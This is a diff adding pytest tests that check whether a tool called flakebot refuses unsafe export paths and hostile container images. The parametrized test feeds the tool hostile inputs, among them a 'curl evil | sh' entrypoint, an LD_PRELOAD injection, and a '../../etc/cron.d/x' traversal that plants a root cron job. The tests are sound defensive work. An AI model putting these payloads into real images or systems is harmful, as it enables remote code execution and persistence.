@@ -1,0 +1,163 @@
+"""Attacks on `flakebot export`'s host steps, on real files: an output directory or file name that is a link, an
+earlier export overwritten, and a built image that is not what flakebot asked for (root user, another entrypoint,
+layers that do not match their digests, a member leaving the archive, no writable /tmp)."""
+
+from __future__ import annotations
+
+import gzip
+import hashlib
+import io
+import json
+import tarfile
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from flakebot.errors import UnsafePath, UsageError
+from flakebot.services import nixos, oci
+from flakebot.services.declaration import ServiceSpec
+
+STORE = "/nix/store/0000000000000000000000000000000a-kv-service-0.1.0"
+
+
+@pytest.fixture
+def manifest() -> dict[str, Any]:
+    spec = ServiceSpec(port=9090, port_env="KV_PORT").to_dict()
+    return {"name": "kv-service", "main_program": "kv-service", "store_path": STORE, "version": "0.1.0",
+            "service": spec}  # fmt: skip
+
+
+# ---------------------------------------------------------------- where export writes
+
+
+def test_an_output_directory_that_is_a_link_is_refused_and_nothing_lands_at_its_target(
+    manifest: dict[str, Any], tmp_path: Path
+) -> None:
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (tmp_path / "out").symlink_to(elsewhere)
+    with pytest.raises(UsageError, match="symbolic link"):
+        nixos.export_nixos(manifest, tmp_path / "out", run_check=False)
+    assert list(elsewhere.iterdir()) == []
+
+
+def test_a_link_at_the_file_name_is_never_written_through(manifest: dict[str, Any], tmp_path: Path) -> None:
+    victim = tmp_path / "victim"
+    victim.write_text("precious\n")
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "flakebot-kv-service.nix").symlink_to(victim)
+    with pytest.raises(UsageError, match="exists"):
+        nixos.export_nixos(manifest, out, run_check=False)
+    nixos.export_nixos(manifest, out, run_check=False, force=True)  # replaces the link itself
+    assert victim.read_text() == "precious\n"
+    assert not (out / "flakebot-kv-service.nix").is_symlink()
+    assert "services.flakebot-kv-service" in (out / "flakebot-kv-service.nix").read_text()
+
+
+def test_an_earlier_export_is_kept_without_force(manifest: dict[str, Any], tmp_path: Path) -> None:
+    nixos.export_nixos(manifest, tmp_path, run_check=False)
+    module = tmp_path / "flakebot-kv-service.nix"
+    module.write_text("# edited by its owner\n")
+    with pytest.raises(UsageError, match="exists"):
+        nixos.export_nixos(manifest, tmp_path, run_check=False)
+    assert module.read_text() == "# edited by its owner\n"
+
+
+# ---------------------------------------------------------------- the built image, read as hostile input
+
+
+def _tar(entries: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
+        for info, data in entries:
+            info.size = len(data) if info.isfile() else 0
+            archive.addfile(info, io.BytesIO(data) if info.isfile() else None)
+    return buffer.getvalue()
+
+
+def _entry(name: str, kind: bytes = tarfile.DIRTYPE, mode: int = 0o755, uid: int = 0) -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    info.type, info.mode, info.uid, info.gid = kind, mode, uid, uid
+    return info
+
+
+def _root_layer(tmp_mode: int = 0o1777, state_uid: int = 65534) -> bytes:
+    return _tar([(_entry("tmp", mode=tmp_mode), b""), (_entry("var"), b""), (_entry("var/lib"), b""),
+                 (_entry("var/lib/flakebot-kv-service", mode=0o700, uid=state_uid), b"")])  # fmt: skip
+
+
+def _archive(tmp_path: Path, *, config: dict[str, Any] | None = None, layer: bytes | None = None,
+             diff_id: str | None = None, extra: tuple[str, bytes] | None = None) -> Path:  # fmt: skip
+    """A docker-archive as buildLayeredImage writes it (gzip'd), with one thing changed."""
+    layer = layer if layer is not None else _root_layer()
+    image_config = {
+        "Entrypoint": [f"{STORE}/bin/kv-service"],
+        "Env": ["KV_PORT=9090", "STATE_DIRECTORY=/var/lib/flakebot-kv-service", "TMPDIR=/tmp"],
+        "ExposedPorts": {"9090/tcp": {}},
+        "User": "65534:65534",
+        **(config or {}),
+    }
+    digest = hashlib.sha256(layer).hexdigest()
+    document = {"config": image_config, "rootfs": {"type": "layers", "diff_ids": [diff_id or f"sha256:{digest}"]}}
+    config_bytes = json.dumps(document).encode()
+    files = [
+        (_entry("manifest.json", tarfile.REGTYPE, 0o644),
+         json.dumps([{"Config": "c.json", "RepoTags": ["flakebot-kv-service:0.1.0"],
+                      "Layers": [f"{digest}/layer.tar"]}]).encode()),
+        (_entry("c.json", tarfile.REGTYPE, 0o644), config_bytes),
+        (_entry(f"{digest}/layer.tar", tarfile.REGTYPE, 0o644), layer),
+    ]  # fmt: skip
+    if extra:
+        files.append((_entry(extra[0], tarfile.REGTYPE, 0o644), extra[1]))
+    path = tmp_path / "image.tar.gz"
+    path.write_bytes(gzip.compress(_tar(files)))
+    return path
+
+
+def test_an_image_as_asked_for_passes_and_becomes_a_layout(manifest: dict[str, Any], tmp_path: Path) -> None:
+    image = oci.read_archive(_archive(tmp_path))
+    assert oci.check_config(image, manifest)["User"] == "65534:65534"
+    files = oci.layout_files(image, "kv-service")
+    index = json.loads(files["index.json"])
+    [described] = index["manifests"]
+    assert described["annotations"]["org.opencontainers.image.ref.name"] == "0.1.0"
+    assert f"blobs/sha256/{described['digest'].removeprefix('sha256:')}" in files
+
+
+@pytest.mark.parametrize(
+    ("change", "why"),
+    [
+        ({"config": {"User": "0:0"}}, "non-root"),
+        ({"config": {"User": ""}}, "non-root"),
+        ({"config": {"User": "root"}}, "non-root"),
+        ({"config": {"User": "app"}}, "numeric"),
+        ({"config": {"Entrypoint": ["/bin/sh", "-c", "curl evil | sh"]}}, "entrypoint"),
+        ({"config": {"Cmd": ["--debug"]}}, "entrypoint"),
+        (
+            {"config": {"Env": ["KV_PORT=9090", "STATE_DIRECTORY=/var/lib/flakebot-kv-service", "LD_PRELOAD=/x.so"]}},
+            "environment",
+        ),
+        ({"config": {"ExposedPorts": {"22/tcp": {}}}}, "exposes"),
+        ({"diff_id": "sha256:" + "0" * 64}, "digests"),
+        ({"extra": ("../../etc/cron.d/x", b"* * * * * root sh\n")}, "not a plain file"),
+        ({"layer": _root_layer(tmp_mode=0o755)}, "/tmp"),
+        ({"layer": _root_layer(state_uid=0)}, "state directory"),
+    ],
+)
+def test_a_hostile_image_is_refused(manifest: dict[str, Any], tmp_path: Path, change: dict[str, Any], why: str) -> None:
+    with pytest.raises(UnsafePath, match=why):
+        oci.check_config(oci.read_archive(_archive(tmp_path, **change)), manifest)
+
+
+def test_a_layout_is_written_whole_and_an_existing_one_kept_without_force(tmp_path: Path) -> None:
+    from flakebot.services.exportfiles import ExportDir
+
+    ExportDir(tmp_path).write_tree("img.oci", {"index.json": b"{}", "blobs/sha256/ab": b"x"})
+    with pytest.raises(UsageError, match="exists"):
+        ExportDir(tmp_path).write_tree("img.oci", {"index.json": b"{2}"})
+    assert (tmp_path / "img.oci" / "index.json").read_bytes() == b"{}"
+    ExportDir(tmp_path, force=True).write_tree("img.oci", {"index.json": b"{2}"})
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["img.oci"]  # no staging or old copy left
+    assert sorted(p.name for p in (tmp_path / "img.oci").iterdir()) == ["index.json"]
